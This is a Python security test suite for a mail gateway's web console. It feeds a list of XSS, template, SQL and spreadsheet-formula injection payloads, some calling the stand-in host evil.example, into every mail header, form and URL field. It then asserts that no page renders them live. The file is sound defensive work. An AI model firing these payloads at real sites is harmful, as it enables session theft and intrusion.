"""SECURITY WEB-003, WEB-004, WEB-008, WEB-010: whatever stands in whatever field is text."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from turbohtml import parse

from gateway.envelope import Client, Path, Reply
from gateway.review.values import CLEANED
from gateway.store.person import Role
from tests.gateway.console.stage import BUYER, Browser, Stage

PAYLOADS = (
    "<script>window.stolen=1</script>",
    "<img src=x onerror=window.stolen=1>",
    '"><svg onload=window.stolen=1>',
    "'><iframe srcdoc='<script>top.stolen=1</script>'>",
    "<a href=javascript:window.stolen=1>go</a>",
    "<form action=https://evil.example><input name=password autofocus onfocus=window.stolen=1></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/x)}</style>",
    "<div style=\"background:url('https://evil.example/x');position:fixed;inset:0\">x</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.stolen=1>'>",
    "<svg><foreignObject><body onload=window.stolen=1></foreignObject></svg>",
    "<svg><use href='https://evil.example/x.svg#a'/><feImage href='https://evil.example/y'/></svg>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<video poster=https://evil.example/p src=https://evil.example/v autoplay></video>",
    "<details open ontoggle=window.stolen=1>x</details>",
    "<marquee onstart=window.stolen=1>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=window.stolen=1>'></noscript>",
    "<template><script>window.stolen=1</script></template>",
    "<textarea></textarea><script>window.stolen=1</script>",
    "<xmp><script>window.stolen=1</script></xmp>",
    "</title><script>window.stolen=1</script>",
    "--><script>window.stolen=1</script><!--",
    "{{7*7}}{% raw %}{{config}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "' OR 1=1 --",
    "%_\\'\"",
    "=cmd|' /C calc'!A0",
    "\u202e<b>live</b>",
    "\u2028javascript:window.stolen=1",
    "&lt;script&gt;window.stolen=1&lt;/script&gt;",
    "<hx-x hx-get=/people hx-trigger=load>",
    "<div hx-post='/people' hx-trigger='load' hx-vals='{\"name\":\"evil\"}'>x</div>",
    "<button data-release type=submit form=several>x</button>",
    "<input type=hidden name=csrf value=evil>",
    "<picture><source srcset=https://evil.example/s><img src=x></picture>",
    "<table background=https://evil.example/b><tr><td background=https://evil.example/c>x</table>",
    "<body background=https://evil.example/d onpageshow=window.stolen=1>",
    "<a target=_top href=https://evil.example>x</a>",
)
_LOCAL = re.compile(r"/(?!/)|\?|#")
_ADDRESSES = frozenset(("href", "src", "action", "formaction", "data", "poster", "hx-get", "hx-post"))
_OURS = frozenset(("/static/theme.js", "/static/htmx.js", "/static/console.js"))


def live(html: str) -> Iterator[str]:
    """What in a page of ours is not ours."""
    for element in parse(html).iter_elements():
        attrs = {name: str(value or "") for name, value in dict(element.attrs).items()}
        if element.tag == "script" and (attrs.get("src") not in _OURS or element.text.strip()):
            yield f"script {attrs}"
        if element.tag in ("style", "base", "object", "embed", "svg", "math", "template", "video", "picture"):
            yield f"{element.tag} {attrs}"
        if element.tag == "iframe" and attrs.get("sandbox") != "":
            yield f"iframe {attrs}"
        for name, value in attrs.items():
            if name.startswith("on") or name == "style" or (name in _ADDRESSES and not _LOCAL.match(value)):
                yield f"{name}={value} of {element.tag}"


def hostile(payload: str) -> bytes:
    """A message with the payload wherever a message has room for it."""
    flat = payload.replace("\r", "").replace("\n", "")
    head = "\r\n".join(
        (
            f"From: {flat} <a@shop.example>",
            f'To: "{flat}" <{BUYER.decode()}>',
            f"Subject: {flat}",
            f"Message-ID: <{flat}@shop.example>",
            f"X-{''.join(char for char in flat if 33 <= ord(char) < 127 and char != ':')}: {flat}",
            f"Organization: {flat}",
            "MIME-Version: 1.0",
            f'Content-Type: multipart/mixed; boundary=m; x="{flat}"',
            "\r\n--m\r\nContent-Type: text/plain; charset=utf-8\r\n",
            f"{payload} Call +49 170 1234567 about 302-1234567-1234567.\r\n--m",
            f"Content-Type: text/html; charset={flat}\r\n",
            f"<p>{payload}</p><p title='{payload}'>Call +49 170 1234567</p><p style='display:none'>{payload}</p>\r\n--m",
            f'Content-Type: application/pdf; name="{flat}.pdf"',
            f'Content-Disposition: attachment; filename="{flat}.pdf"\r\n',
            "%PDF-1.4\r\n--m--\r\n",
        )
    )
    return head.encode("utf-8")


async def everywhere(stage: Stage, browser: Browser, payload: str) -> list[str]:
    """Every page on which the payload is, and is not, looked for."""
    text = payload.encode("utf-8")
    client = Client("192.0.2.1", helo=payload, login=payload)
    id = await stage.hold(hostile(payload), account=payload, client=client, mail_from=Path(text))
    stage.relay.answers = [Reply(550, "5.7.1", payload)]
    await browser.get("/queue")
    await browser.post(f"/messages/{id}/comment", text=payload, back=payload)
    opened = await stage.desk.look.open((await stage.desk.people.list())[0], id)
    assert opened
    await browser.post(f"/messages/{id}/release", form=CLEANED, seen=opened.sha256(CLEANED), reason=payload)
    pages = [f"/messages/{id}", f"/messages/{id}/edit", f"/messages/{id}/{payload}", "/queue", "/people", "/me"]
    answers = [await browser.get(path) for path in pages]
    for field in ("q", "rule", "account", "state", "older", "after", "mine"):
        answers.append(await browser.client.get("/queue", params={field: payload}))
    answers.append(await browser.client.get("/sign-in", params={"next": payload}))
    answers.append(await browser.client.get(f"/rules/{payload}"))
    answers.append(await browser.post(f"/messages/{id}/preview", **{"text-0": payload, "text-99": payload}))
    answers.append(await browser.post("/several", id=id, action=payload))
    answers.append(await browser.post(f"/messages/{id}/reject", reason=payload))
    answers.append(await browser.get(f"/messages/{id}"))
    assert all(answer.status_code in (200, 303, 404, 409) for answer in answers), [answer.status_code for answer in answers]
    return [answer.text for answer in answers]


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), 10))
async def test_no_field_comes_alive(stage: Stage, first: int) -> None:
    browser = await stage.person("anna", Role.ADMIN)
    for payload in PAYLOADS[first : first + 10]:
        pages = await everywhere(stage, browser, payload)
        assert {payload: [found for page in pages for found in live(page)]} == {payload: []}
        assert not any("49}" in page or ">49<" in page for page in pages) or "7*7" not in payload


async def test_a_mail_page_is_served_as_one(stage: Stage) -> None:
    """WEB-001: an origin of its own, and nothing but looks."""
    browser = await stage.person("anna")
    id = await stage.hold(hostile(PAYLOADS[0]))
    answer = await browser.client.get(f"/messages/{id}/html/0")
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none';") and "script" not in policy
    assert answer.headers["x-content-type-options"] == "nosniff" and answer.headers["referrer-policy"] == "no-referrer"
    assert "<script" not in answer.text and "onerror" not in answer.text


async def test_files_are_saved_and_never_shown(stage: Stage) -> None:
    """WEB-004."""
    browser = await stage.person("anna")
    id = await stage.hold(hostile("x"))
    saved = await browser.client.get(f"/messages/{id}/original.eml")
    assert saved.headers["content-type"] == "application/octet-stream"
    assert saved.headers["content-disposition"].startswith(f'attachment; filename="{id}-original.eml"')
    assert saved.content == hostile("x")
    source = await browser.client.get(f"/messages/{id}/raw")
    assert source.headers["content-type"].startswith("text/plain") and source.headers["x-content-type-options"] == "nosniff"


async def test_what_deceives_the_eye_is_spelled_out(stage: Stage) -> None:
    """WEB-010: direction and invisible characters are shown as such."""
    browser = await stage.person("anna")
    id = await stage.hold(hostile("txt\u202egnp\u200b"))
    for path in ("/queue", f"/messages/{id}"):
        page = (await browser.get(path)).text
        assert "\u202e" not in page and "U+202E" in page, path


@pytest.mark.parametrize("payload", ("'", "%", "_", "\\", "\0", "' OR '1'='1", "a" * 20_000, "\ud800"))
async def test_a_search_finds_what_it_says(stage: Stage, payload: str) -> None:
    """WEB-008: nothing in a search is a pattern or SQL."""
    browser = await stage.person("anna")
    await stage.hold(hostile("plain"))
    for field in ("q", "rule", "account", "state", "after", "older"):
        answer = await browser.client.get("/queue", params={field: payload.encode("utf-8", "replace")})
        assert answer.status_code == 200
        if field == "q":
            assert "/messages/" not in answer.text
